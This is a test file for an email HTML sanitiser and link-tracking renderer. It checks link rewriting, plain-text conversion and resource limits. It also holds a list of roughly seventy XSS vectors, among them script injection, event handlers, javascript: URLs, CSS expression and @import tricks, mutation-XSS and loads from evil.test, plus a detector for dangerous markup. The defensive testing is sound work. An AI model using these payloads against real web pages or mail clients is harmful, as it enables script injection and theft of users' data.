import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { cpuTime } from "../../../support/cpu.ts";
import { attributeOf, CLICK, contentOf, elementsOf, linksOf, PIXEL, render, textOf, UNSUBSCRIBE } from "./mails.ts";

/** The HTML above the footer: in the column of a plain mail, or in the body of an author's own design. */
const bodyOf = (html: string) =>
  html.match(/<(?:div class="m-page"|body(?! class))[^>]*>\n([\s\S]*?)\n<div class="m-foot"/)?.[1];

describe("an HTML body", () => {
  test("is the author's in the HTML part", () => {
    const body =
      '<p style="color:red" class="x">Hi <b>Bob</b> &amp; co &lt;3</p>\n<ul><li>one</li></ul><img src="https://acme.test/logo.png" alt="Acme" width="80">';
    expect(bodyOf(render(body).html)).toBe(body);
  });

  test("may be a whole document, whose head and body find their place", () => {
    const { html } = render(
      '<!DOCTYPE html><html lang="fr"><head><title>Old</title><style>p { color: green }</style><meta http-equiv="refresh" content="0;url=https://evil.test"></head><body style="margin:0" bgcolor="#eee" onload="x()"><p>Hi</p></body></html>',
    );
    expect(contentOf(html, "title")).toEqual(["Your plan"]);
    expect(contentOf(html, "style")).toEqual(["p { color: green }"]);
    expect(
      elementsOf(html)
        .filter((element) => element.tagName === "body")
        .map((element) => element.attrs),
    ).toEqual([
      [
        { name: "style", value: "margin:0" },
        { name: "bgcolor", value: "#eee" },
      ],
    ]);
    expect(bodyOf(html)).toBe("<p>Hi</p>");
    expect(html).not.toContain("evil");
  });

  test("has its links rewritten in both parts, in an <a> or bare, the same address to the same link", () => {
    const rendered = render(
      '<p>See <a href="https://acme.test/?a=1&amp;b=2">the plans</a>, https://acme.test/?a=1&amp;b=2, (<b>http://b.test:81/x</b>) or &lt;HTTPS://C.test&gt;.</p>',
    );
    expect(rendered.targets).toEqual(["https://acme.test/?a=1&b=2", "http://b.test:81/x", "HTTPS://C.test"]);
    expect(linksOf(rendered.html)).toEqual([`${CLICK}0`, `${CLICK}0`, `${CLICK}1`, `${CLICK}2`, UNSUBSCRIBE]);
    expect(textOf(rendered)).toBe(`See the plans (${CLICK}0), ${CLICK}0, (${CLICK}1) or <${CLICK}2>.`);
    expect(contentOf(rendered.html, "p")).toEqual(["See the plans, acme.test/?a=1&b=2, (b.test:81/x) or <C.test>."]);
  });

  test("keeps its links and addresses as they are where clicks are not tracked", () => {
    const rendered = render('<p><a href="https://acme.test/?a=1&amp;b=2">plans</a> https://b.test</p>', {
      tracking: { opens: false, clicks: false },
    });
    expect(rendered.targets).toEqual([]);
    expect(linksOf(rendered.html)).toEqual(["https://acme.test/?a=1&b=2", "https://b.test", UNSUBSCRIBE]);
    expect(textOf(rendered)).toBe("plans (https://acme.test/?a=1&b=2) https://b.test");
  });

  test("keeps mailto and tel links and the unsubscribe link", () => {
    const rendered = render(
      `<p><a href="mailto:ada@acme.test?subject=x">write</a> <a href="TEL:+49123">+49123</a> <a href="${UNSUBSCRIBE}">leave</a></p>`,
    );
    expect(linksOf(rendered.html)).toEqual(["mailto:ada@acme.test?subject=x", "TEL:+49123", UNSUBSCRIBE, UNSUBSCRIBE]);
    expect(textOf(rendered)).toBe(`write (ada@acme.test) +49123 leave (${UNSUBSCRIBE})`);
    expect(rendered.targets).toEqual([]);
  });

  test.each([
    ["https://acme.test", "https://acme.test"],
    ["  https://acme.test/a\n", "https://acme.test/a"],
    ["ht\ntps://acme.test/a", "https://acme.test/a"],
    ["//acme.test/a", "https://acme.test/a"],
    ["https:acme.test/a", "https://acme.test/a"],
    ["https:\\\\acme.test\\a", "https://acme.test/a"],
    ["https://acme.test/a b", "https://acme.test/a%20b"],
    ["https://acme.test/(x).", "https://acme.test/(x)."],
  ])("with the link %j leads to %j, where a browser would go", (href, target) => {
    const rendered = render(`<p><a href="${href}">x</a></p>`);
    expect(rendered.targets).toEqual([target]);
    expect(linksOf(rendered.html)).toEqual([`${CLICK}0`, UNSUBSCRIBE]);
  });

  test.each(["/pricing", "#", "pricing.html", "", "https://", "https://%zz"])(
    "with the link %j, which leads nowhere from a mail, keeps its words",
    (href) => {
      const rendered = render(`<p><a href="${href}">words</a></p>`);
      expect(rendered.targets).toEqual([]);
      expect(linksOf(rendered.html)).toEqual(["", UNSUBSCRIBE]);
      expect(textOf(rendered)).toBe("words");
    },
  );

  test("shows no address as the words of a link that opens another", () => {
    const { html } = render('<p><a href="https://acme.test/a">https://acme.test/a</a></p>');
    expect(contentOf(html, "a")[0]).toBe("acme.test/a");
    expect(linksOf(html)).toEqual([`${CLICK}0`, UNSUBSCRIBE]);
  });

  test("with line breaks alone for layout keeps them in both parts", () => {
    const rendered = render("Hi <b>Bob</b>,\n\nshall we <i>pause</i> it?\nAda");
    expect(bodyOf(rendered.html)).toBe("Hi <b>Bob</b>,<br>\n<br>\nshall we <i>pause</i> it?<br>\nAda");
    expect(textOf(rendered)).toBe("Hi Bob,\n\nshall we pause it?\nAda");
  });

  test("has the pixel at its end where opens are tracked", () => {
    const { html } = render("<p>Hi</p>", { tracking: { opens: true, clicks: true } });
    expect(elementsOf(html).filter((element) => attributeOf(element, "src") === PIXEL)).toHaveLength(1);
    expect(html).toMatch(/<img src="[^"]*"[^>]*>\n<\/body>\n<\/html>\n$/);
  });

  test("that would grow without bounds when parsed is mailed as its bare text", () => {
    const hostile = `<p>${Array.from({ length: 2500 }, (_, i) => `<b a=${i}>`).join("")}${"<p>x".repeat(6000)}`;
    const began = cpuTime();
    const rendered = render(hostile);
    expect(cpuTime() - began).toBeLessThan(3000);
    expect(rendered.html.length).toBeLessThan(2_000_000);
    expect(elementsOf(rendered.html).some((element) => element.tagName === "b")).toBe(false);
    expect(textOf(rendered)).toBe("x".repeat(6000));
  });

  test("nested as deep as its length allows is read to its end", () => {
    const rendered = render(`${"<div>".repeat(1900)}deep https://acme.test${"</div>".repeat(1000)}`);
    expect(textOf(rendered)).toBe(`deep ${CLICK}0`);
    expect(linksOf(rendered.html)).toEqual([`${CLICK}0`, UNSUBSCRIBE]);
  });

  test("of more than 2,000 elements is mailed as its bare text, with its links", () => {
    const rendered = render(`${"<div><b>".repeat(4000)}deep https://acme.test <script>${"</div>".repeat(1000)}`);
    expect(textOf(rendered)).toBe(`deep ${CLICK}0`);
    expect(linksOf(rendered.html)).toEqual([`${CLICK}0`, UNSUBSCRIBE]);
    expect(rendered.html).not.toMatch(/<script|&lt;/);
  });
});

describe("the text part of an HTML body", () => {
  const text = (html: string) => textOf(render(html));

  test.each([
    ["<p>One</p><p>Two</p>", "One\n\nTwo"],
    ["<p>One<br>Two<br><br>Three</p>", "One\nTwo\n\nThree"],
    ["<h1>Title</h1>Words\n  and   more", "Title\n\nWords and more"],
    ["<div>One</div><div>Two</div>", "One\nTwo"],
    ["<p>List:</p><ul><li>one</li><li><p>two</p></li></ul><p>End</p>", "List:\n\n- one\n- two\n\nEnd"],
    ['<ol start="3"><li>three<li>four<ul><li>inner</ul></ol>', "3. three\n4. four\n- inner"],
    ["<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"],
    ["<p>&euro;5 &amp; &lt;up&gt;&nbsp;&#8230;</p>", "€5 & <up>\u00a0…"],
    ["<ul><li></li><li><p></p></li><li>three</li></ul>", "-\n-\n- three"],
    ["<p>a</p><hr><p>b</p>", "a\n\n---\n\nb"],
    ['<p><img src="https://acme.test/x.png" alt="Our office"> hello</p>', "Our office hello"],
    ["<pre>a  b\n  c</pre>", "a  b\n  c"],
    ["<p>Hi<script>alert(1)</script><style>p{}</style><!-- no --></p>", "Hi"],
    ["<p>un<b>believ</b>able <i> things</i></p>", "unbelievable things"],
    ['<p><a href="https://acme.test/">acme.test</a></p>', `${CLICK}0`],
    ['<p><a href="https://acme.test"><img src="https://acme.test/x.png"></a></p>', `${CLICK}0`],
    ['<p><a href="mailto:ada@acme.test">ada@acme.test</a></p>', "ada@acme.test"],
  ])("of %s is %j", (html, expected) => expect(text(html)).toBe(expected));
});

/** Everything in a page that could run, load or request something. */
function harmIn(html: string): string[] {
  const harm: string[] = [];
  const allowedTags = new Set(
    (
      "html head meta title style body a abbr b bdi big blockquote br center code div em font h1 h2 i img li mark ol p pre s small span " +
      "strong sub sup table tbody td th thead tr u ul hr article section header footer main nav aside col colgroup caption"
    ).split(" "),
  );
  for (const element of elementsOf(html)) {
    if (!allowedTags.has(element.tagName)) harm.push(`<${element.tagName}>`);
    if (element.namespaceURI !== "http://www.w3.org/1999/xhtml") harm.push(element.namespaceURI);
    for (const { name, value } of element.attrs) {
      const compact = value.replace(/[\0-\x20]/g, "").toLowerCase();
      if (
        name.startsWith("on") ||
        ["srcdoc", "srcset", "formaction", "action", "http-equiv", "ping", "xlink:href"].includes(name)
      )
        harm.push(name);
      if (/^(javascript|data|vbscript|file|blob):/.test(compact)) harm.push(`${name}=${value}`);
      if (name === "style" && /expression|javascript|behavior|@import|-moz-binding|url\((?!["']?https?:)/.test(compact))
        harm.push(value);
    }
  }
  for (const style of contentOf(html, "style")) if (/@import|expression|javascript|<|\\/i.test(style)) harm.push(style);
  return harm;
}

const VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)",
  "<img/src=x/onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<img src=javascript:alert(1)>",
  "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
  '<img srcset="javascript:alert(1) 1x">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object><embed src=//evil.test/x.swf>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script&colon;alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://a.test" onclick="alert(1)" ping="https://evil.test">x</a>',
  "<a href='https://a.test/\"onmouseover=\"alert(1)'>x</a>",
  '<p>https://a.test/"onmouseover="alert(1)</p>',
  "<p>https://a.test/'onmouseover='alert(1)</p>",
  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  "<style>@import 'https://evil.test/x.css';</style>",
  "<style>@im\\port 'https://evil.test/x.css';</style>",
  "<style>@im/**/port 'x'; p{}</style>",
  "<style>p{background:url(javascript:alert(1))}</style>",
  "<style></style><script>alert(1)</script></style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="width:exp/**/ression(alert(1))">x</p>',
  '<p style="behavior:url(https://evil.test/x.htc)">x</p>',
  '<p style="background:\\75rl(javascript:alert(1))">x</p>',
  "<link rel=stylesheet href=https://evil.test/x.css>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<base href=https://evil.test/>",
  "<body onload=alert(1) background=javascript:alert(1)>",
  "<table background=javascript:alert(1)><td background='javascript:alert(1)'>x",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<textarea><script>alert(1)</script></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<p id=x></p><frameset onload=alert(1)>",
  "</body></html><script>alert(1)</script>",
  "<p title='</p><script>alert(1)</script>'>x</p>",
  "<select><template><script>alert(1)</script></template></select>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<isindex action=javascript:alert(1)>",
  "\0<scr\0ipt>alert(1)</scr\0ipt>",
];

describe("hostile HTML comes out harmless", () => {
  test.each(VECTORS)("%j", (vector) => {
    for (const body of [vector, `<p>Hi</p>${vector}`, `<div>${vector}</div>`, `${vector}<p>bye`]) {
      const rendered = render(body, { kind: "html", tracking: { opens: true, clicks: true } });
      expect(harmIn(rendered.html)).toEqual([]);
      // An element that the body leaves open does not swallow what follows the body.
      expect(linksOf(rendered.html).at(-1)).toBe(UNSUBSCRIBE);
      expect(attributeOf(elementsOf(rendered.html).findLast((element) => element.tagName === "img")!, "src")).toBe(
        PIXEL,
      );
      for (const target of rendered.targets) expect(target).toMatch(/^https?:\/\/[!-~]+$/i);
    }
  });

  test("the measure of harm finds it", () => {
    const harmful = VECTORS.filter((vector) => harmIn(`<body><div>${vector}</div></body>`).length > 0);
    expect(harmful.length).toBeGreaterThan(VECTORS.length * 0.8);
  });

  test("in any combination", () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.constantFrom("<p>", "</p>", "<b>", "</a>", "<table>", "<td>", "'", '"', ">", "<", "x"),
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 8 }), (pieces) => {
        const rendered = render(pieces.join(""), { kind: "html" });
        expect(harmIn(rendered.html)).toEqual([]);
        expect(linksOf(rendered.html).at(-1)).toBe(UNSUBSCRIBE);
      }),
      { numRuns: 300 },
    );
  });

  test("and every link and bare address in any HTML leads to us", () => {
    const piece = fc.constantFrom(
      '<a href="https://a.test/?x=1&amp;y=2">',
      "</a>",
      "https://b.test/z ",
      "<p>",
      "</p>",
      "<b>",
      "http://c.test ",
      "<a href=//d.test>",
      " ",
      "(",
      "),",
      "<ul><li>",
      "</ul>",
      "words ",
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 12 }), (pieces) => {
        const rendered = render(pieces.join(""), { kind: "html" });
        for (const link of linksOf(rendered.html)) if (link !== "") expect(link).toStartWith("https://mail.test/");
        for (const [address] of `${rendered.text}\n${rendered.html}`.matchAll(/https?:\/\/[^\s<>"]+/gi))
          expect(address).toStartWith("https://mail.test/");
      }),
      { numRuns: 300 },
    );
  });
});
